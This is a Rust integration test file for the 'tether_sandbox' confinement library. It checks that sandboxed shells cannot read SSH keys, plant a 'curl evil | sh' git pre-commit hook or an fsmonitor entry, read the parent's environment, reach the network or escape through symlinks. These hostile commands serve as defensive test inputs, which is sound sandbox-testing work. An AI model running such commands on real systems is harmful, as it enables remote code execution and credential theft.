#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Real children under real policies: each act the sandbox must stop is tried, and each act it
//! must allow is done, by a shell spawned through [`tether_sandbox::confine`].

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use tether_sandbox::{Policy, SandboxError, Support, confine};

mod lifetime;

struct Trees {
    _tmp: tempfile::TempDir,
    work: PathBuf,
    store: PathBuf,
    home: PathBuf,
    scratch: PathBuf,
}

fn trees() -> Trees {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().to_path_buf();
    let (work, store, home, scratch) = (
        root.join("work"),
        root.join("store"),
        root.join("home"),
        root.join("scratch"),
    );
    for dir in [&work, &store, &home.join(".ssh"), &scratch] {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(store.join("tether.db"), "store").unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "private key").unwrap();
    std::fs::write(work.join("src.txt"), "source").unwrap();
    Trees {
        _tmp: tmp,
        work,
        store,
        home,
        scratch,
    }
}

fn policy(t: &Trees) -> Policy {
    Policy::new().write(&t.work).write(&t.scratch)
}

/// Runs `script` with `sh -c` in `cwd` under `policy`.
fn run(policy: &Policy, cwd: &Path, script: &str) -> Output {
    let mut cmd = Command::new("/bin/sh");
    cmd.arg("-c")
        .arg(script)
        .current_dir(cwd)
        .stdin(Stdio::null())
        .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin");
    confine(&mut cmd, policy.prepare(Support::probe()).unwrap());
    cmd.output().unwrap()
}

fn ok(out: &Output) -> bool {
    out.status.success()
}

fn says(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn the_working_tree_can_be_edited_and_grown() {
    let t = trees();
    let out = run(
        &policy(&t),
        &t.work,
        "echo more >> src.txt && mkdir -p new/dir && echo hi > new/dir/f && mv new/dir/f g && rm g && cat src.txt",
    );
    assert!(ok(&out), "{}", says(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "sourcemore\n");
}

#[test]
fn the_store_can_be_neither_read_nor_written_nor_linked() {
    let t = trees();
    let p = policy(&t);
    let db = t.store.join("tether.db");
    for script in [
        format!("cat {}", db.display()),
        format!("echo x >> {}", db.display()),
        format!("ln {} stolen.db", db.display()),
        format!("ls {}", t.store.display()),
        format!("rm {}", db.display()),
    ] {
        let out = run(&p, &t.work, &script);
        assert!(!ok(&out), "`{script}` worked: {}", says(&out));
    }
    assert_eq!(std::fs::read_to_string(&db).unwrap(), "store");
}

#[test]
fn the_home_directory_is_unreadable_unless_listed() {
    let t = trees();
    let key = t.home.join(".ssh/id_ed25519");
    let out = run(&policy(&t), &t.work, &format!("cat {}", key.display()));
    assert!(!ok(&out), "{}", says(&out));
    let listed = policy(&t).read(t.home.join(".ssh"));
    let out = run(&listed, &t.work, &format!("cat {}", key.display()));
    assert_eq!(says(&out), "private key");
}

#[test]
fn a_readable_tree_is_not_writable() {
    let t = trees();
    let p = policy(&t).read(&t.home);
    let out = run(&p, &t.work, &format!("touch {}/planted", t.home.display()));
    assert!(!ok(&out));
    assert!(!t.home.join("planted").exists());
}

#[test]
fn tether_cannot_be_signalled() {
    let t = trees();
    let me = std::process::id();
    let out = run(&policy(&t), &t.work, &format!("kill -0 {me}"));
    assert!(!ok(&out), "{}", says(&out));
}

#[test]
fn no_capability_survives_not_even_as_root() {
    let t = trees();
    let out = run(
        &policy(&t),
        &t.work,
        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status",
    );
    assert!(ok(&out), "{}", says(&out));
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        assert!(line.ends_with("0000000000000000"), "{line}");
    }
    let out = run(&policy(&t), &t.work, "hostname \"$(hostname)\"");
    assert!(!ok(&out), "sethostname worked");
}

fn python() -> &'static str {
    "/usr/bin/python3"
}

#[test]
fn the_network_is_off_unless_opened() {
    let t = trees();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tcp = format!(
        "{} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 5)\"",
        python()
    );
    let udp = format!(
        "{} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))\"",
        python()
    );
    for script in [&tcp, &udp] {
        let out = run(&policy(&t), &t.work, script);
        assert!(!ok(&out), "`{script}` worked with the network off");
    }
    for script in [&tcp, &udp] {
        let out = run(&policy(&t).network(true), &t.work, script);
        assert!(
            ok(&out),
            "`{script}` failed with the network on: {}",
            says(&out)
        );
    }
    // Unix sockets stay usable with the network off.
    let out = run(
        &policy(&t),
        &t.work,
        &format!("{} -c \"import socket; socket.socketpair()\"", python()),
    );
    assert!(ok(&out), "{}", says(&out));
}

#[test]
fn a_kernel_without_landlock_or_signal_scoping_is_refused_by_name() {
    let t = trees();
    for (abi, feature) in [(0, "Landlock (Linux 5.13"), (5, "signal scoping")] {
        let err = policy(&t)
            .prepare(Support {
                landlock_abi: abi,
                namespaces: true,
            })
            .unwrap_err();
        assert!(matches!(err, SandboxError::Unsupported { .. }));
        let message = err.to_string();
        assert!(message.contains(feature), "{message}");
        assert!(message.contains("[sandbox] mode = \"off\""), "{message}");
    }
}

#[test]
fn a_missing_writable_tree_is_an_error_naming_it() {
    let t = trees();
    let missing = t.work.join("nope");
    let err = Policy::new()
        .write(&missing)
        .prepare(Support::probe())
        .unwrap_err();
    assert!(err.to_string().contains("nope"), "{err}");
}

#[test]
fn this_kernel_enforces_the_whole_policy() {
    // CI and development machines must run the sandbox for real; a kernel that cannot is a
    // failure here, not a skipped test.
    Support::probe().check().unwrap();
}

#[test]
fn git_stays_read_only_and_the_state_hidden_inside_a_writable_tree() {
    let t = trees();
    std::fs::create_dir_all(t.work.join(".git/hooks")).unwrap();
    std::fs::write(t.work.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(t.work.join(".tether")).unwrap();
    std::fs::write(t.work.join(".tether/tether.db"), "store").unwrap();
    let p = policy(&t)
        .read_only(t.work.join(".git"))
        .hide(t.work.join(".tether"));
    for script in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo '[core] fsmonitor = evil' >> .git/config",
        "rm -r .git",
        "mv .git elsewhere",
        "cat .tether/tether.db",
        "ln .tether/tether.db stolen",
        "umount .tether",
        "umount .git",
    ] {
        let out = run(&p, &t.work, script);
        assert!(!ok(&out), "`{script}` worked: {}", says(&out));
    }
    assert_eq!(
        std::fs::read_to_string(t.work.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!t.work.join(".git/hooks/pre-commit").exists());
    // The git directory is still readable, and the rest of the tree writable.
    let out = run(&p, &t.work, "cat .git/config && echo new > top-level-file");
    assert!(ok(&out), "{}", says(&out));
    assert_eq!(
        std::fs::read_to_string(t.work.join("top-level-file")).unwrap(),
        "new\n"
    );
}

#[test]
fn the_parents_environment_cannot_be_read_through_proc() {
    let t = trees();
    let me = std::process::id();
    let out = run(&policy(&t), &t.work, &format!("cat /proc/{me}/environ"));
    assert!(!ok(&out), "read tether's environment: {}", says(&out));
    // Its own is there as usual.
    let out = run(&policy(&t), &t.work, "cat /proc/self/environ");
    assert!(ok(&out), "{}", says(&out));
}

/// A copy of `file`'s descriptor, numbered 50 or above, that the children this process spawns
/// inherit (as a descriptor tether got from whoever started it).
#[allow(unsafe_code)]
fn inheritable(file: &std::fs::File) -> std::os::fd::OwnedFd {
    use std::os::fd::{AsRawFd as _, FromRawFd as _};
    // SAFETY: F_DUPFD (no close-on-exec) on a descriptor `file` owns; the copy is owned here.
    unsafe {
        let fd = libc::fcntl(file.as_raw_fd(), libc::F_DUPFD, 50);
        assert!(fd >= 50);
        std::os::fd::OwnedFd::from_raw_fd(fd)
    }
}

#[test]
fn a_descriptor_tether_inherited_does_not_reach_the_child() {
    let t = trees();
    let secret = t.home.join(".ssh/id_ed25519");
    let copy = inheritable(&std::fs::File::open(&secret).unwrap());
    let fd = std::os::fd::AsRawFd::as_raw_fd(&copy);
    let out = run(
        &policy(&t),
        &t.work,
        &format!(
            "ls /proc/self/fd; {} -c \"import os; print(os.read({fd}, 64).decode())\"",
            python()
        ),
    );
    assert!(!says(&out).contains("private key"), "{}", says(&out));
    let listed = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        !listed.split_whitespace().any(|n| n == fd.to_string()),
        "{listed}"
    );
}

#[test]
fn the_child_has_a_session_of_its_own_and_no_controlling_terminal() {
    let t = trees();
    // Field 6 of stat is the session, 7 the terminal (`sh` has no space in its name).
    let out = run(
        &policy(&t),
        &t.work,
        "set -- $(cat /proc/$$/stat); [ \"$6\" = $$ ] && [ \"$5\" = $$ ] && echo \"tty $7\"",
    );
    assert_eq!(says(&out), "tty 0\n");
    let out = run(
        &policy(&t),
        &t.work,
        &format!(
            "{} -c \"import os; os.open('/dev/tty', os.O_RDONLY)\"",
            python()
        ),
    );
    assert!(
        says(&out).contains("No such device or address"),
        "{}",
        says(&out)
    );
}

/// A new pseudo-terminal of this process: its controller and the path of its terminal.
#[allow(unsafe_code)]
fn pseudo_terminal() -> (std::fs::File, PathBuf) {
    use std::os::fd::FromRawFd as _;
    // SAFETY: posix_openpt, grantpt, unlockpt and ptsname_r on the descriptor just opened,
    // with a buffer of the size given.
    unsafe {
        let fd = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC);
        assert!(fd >= 0);
        assert_eq!(libc::grantpt(fd), 0);
        assert_eq!(libc::unlockpt(fd), 0);
        let mut name = [0 as libc::c_char; 64];
        assert_eq!(libc::ptsname_r(fd, name.as_mut_ptr(), name.len()), 0);
        let path = std::ffi::CStr::from_ptr(name.as_ptr())
            .to_string_lossy()
            .into_owned();
        (std::fs::File::from_raw_fd(fd), PathBuf::from(path))
    }
}

#[test]
fn a_terminal_given_as_stdin_is_not_the_childs_and_other_terminals_are_out_of_sight() {
    let t = trees();
    let (_controller, terminal) = pseudo_terminal();
    let mut cmd = Command::new("/bin/sh");
    cmd.arg("-c")
        .arg(format!(
            "[ -t 0 ] && echo 'stdin is a terminal'; ls /dev/pts; \
             (echo FAKE-PROMPT > {t}) 2>/dev/null; (exec 3< {t}) 2>/dev/null && echo 'opened for reading'; \
             {py} -c \"import os, pty; m, s = pty.openpty(); os.write(m, b'own\\n'); print(os.read(s, 8).decode().strip(), os.ttyname(s))\"",
            t = terminal.display(),
            py = python()
        ))
        .current_dir(&t.work)
        .stdin(std::fs::File::options().read(true).write(true).open(&terminal).unwrap())
        .env("PATH", "/usr/local/bin:/usr/bin:/bin");
    confine(&mut cmd, policy(&t).prepare(Support::probe()).unwrap());
    let out = cmd.output().unwrap();
    let said = says(&out);
    assert!(!said.contains("stdin is a terminal"), "{said}");
    // Only the child's own instance: its ptmx, then the terminal it made.
    assert!(said.starts_with("ptmx\n"), "{said}");
    assert!(said.contains("own /dev/pts/0"), "{said}");
    assert!(!said.contains("FAKE-PROMPT"), "{said}");
    assert!(!said.contains("opened for reading"), "{said}");
}

#[test]
fn devices_beyond_the_usual_ones_are_unreadable() {
    let t = trees();
    let out = run(&policy(&t), &t.work, "ls /dev");
    assert!(!ok(&out), "{}", says(&out));
    for device in ["/dev/kmsg", "/dev/console", "/dev/loop0", "/dev/tty1"] {
        if Path::new(device).exists() {
            let out = run(&policy(&t), &t.work, &format!("head -c1 {device}"));
            assert!(!ok(&out), "{device} was read");
        }
    }
    let out = run(
        &policy(&t),
        &t.work,
        "head -c4 /dev/urandom | wc -c && head -c1 /dev/zero | wc -c && echo x > /dev/null",
    );
    assert_eq!(says(&out), "4\n1\n");
}

#[test]
fn a_unix_socket_outside_what_is_granted_cannot_be_connected_to_by_its_path() {
    let t = trees();
    // A multiplexer's socket in /tmp, an agent's in the home directory, both listening.
    let tmux = t.store.join("tmux-0");
    std::fs::create_dir_all(&tmux).unwrap();
    let sockets = [tmux.join("default"), t.home.join(".ssh/agent.sock")];
    let _listeners: Vec<_> = sockets
        .iter()
        .map(|s| std::os::unix::net::UnixListener::bind(s).unwrap())
        .collect();
    let p = policy(&t)
        .cover(&t.home)
        .read(t.home.join(".ssh/id_ed25519"));
    for socket in &sockets {
        let out = run(
            &p,
            &t.work,
            &format!(
                "{} -c \"import socket; socket.socket(socket.AF_UNIX).connect('{}')\"",
                python(),
                socket.display()
            ),
        );
        assert!(!ok(&out), "connected to {}", socket.display());
    }
    // What is granted beneath the covers is in place: the working tree (the child's working
    // directory), a file in the home directory.
    let out = run(
        &p,
        &t.work,
        &format!(
            "cat src.txt {}; pwd",
            t.home.join(".ssh/id_ed25519").display()
        ),
    );
    assert_eq!(
        says(&out),
        format!("sourceprivate key{}\n", t.work.display())
    );
}

#[test]
fn a_path_to_hide_or_keep_read_only_beneath_a_cover_is_out_of_sight_already() {
    let t = trees();
    // The store's directory lies in /tmp and is not granted (a worktree's checkout).
    std::fs::create_dir_all(t.store.join(".tether")).unwrap();
    let p = policy(&t)
        .hide(t.store.join(".tether"))
        .read_only(t.store.join("tether.db"));
    let out = run(
        &p,
        &t.work,
        &format!("ls {}; cat src.txt", t.store.display()),
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "source");
}

/// A path inside the writable tree granted without following links (a person's `[sandbox]
/// readable` that the agent can replace): readable as a directory; once the child replaced it
/// with a link to `/` or the home directory, the next child gets nothing through it, and the
/// covers stay on.
#[test]
fn an_unlinked_grant_the_child_replaced_with_a_link_grants_nothing() {
    let t = trees();
    let sdk = t.work.join("vendor/sdk");
    std::fs::create_dir_all(&sdk).unwrap();
    std::fs::write(sdk.join("lib.txt"), "sdk").unwrap();
    let key = t.home.join(".ssh/id_ed25519");
    let p = Policy::new()
        .read(&t.work)
        .write(&t.scratch)
        .read_unlinked(&sdk)
        .cover(&t.home);
    let out = run(&p, &t.scratch, &format!("cat {}/lib.txt", sdk.display()));
    assert_eq!(says(&out), "sdk");
    for target in [Path::new("/"), t.home.as_path()] {
        std::fs::remove_dir_all(&sdk).ok();
        std::fs::remove_file(&sdk).ok();
        std::os::unix::fs::symlink(target, &sdk).unwrap();
        for script in [
            format!("ls {}/", sdk.display()),
            "ls /".to_owned(),
            format!("cat {}", key.display()),
            format!("cat {}/.ssh/id_ed25519", sdk.display()),
        ] {
            let out = run(&p, &t.scratch, &script);
            assert!(!ok(&out), "`{script}` worked: {}", says(&out));
        }
    }
    // A link higher up the path is refused as well.
    std::fs::remove_file(&sdk).unwrap();
    std::fs::remove_dir(t.work.join("vendor")).unwrap();
    std::os::unix::fs::symlink("/", t.work.join("vendor")).unwrap();
    let p = Policy::new()
        .read(&t.work)
        .write(&t.scratch)
        .read_unlinked(t.work.join("vendor/etc"));
    let out = run(&p, &t.scratch, "ls /");
    assert!(!ok(&out), "{}", says(&out));
}

/// A `.git` the child made a link to the tree itself is not made read-only (a mount would follow
/// it and leave the whole tree read-only for every later child); the tree stays writable.
#[test]
fn a_read_only_path_that_is_a_link_is_left_alone() {
    let t = trees();
    std::os::unix::fs::symlink(&t.work, t.work.join(".git")).unwrap();
    let p = policy(&t).read_only(t.work.join(".git"));
    let file = t.work.join("file");
    let out = run(
        &p,
        &t.work,
        &format!("echo new > {0} && cat {0}", file.display()),
    );
    assert_eq!(says(&out), "new\n");
}
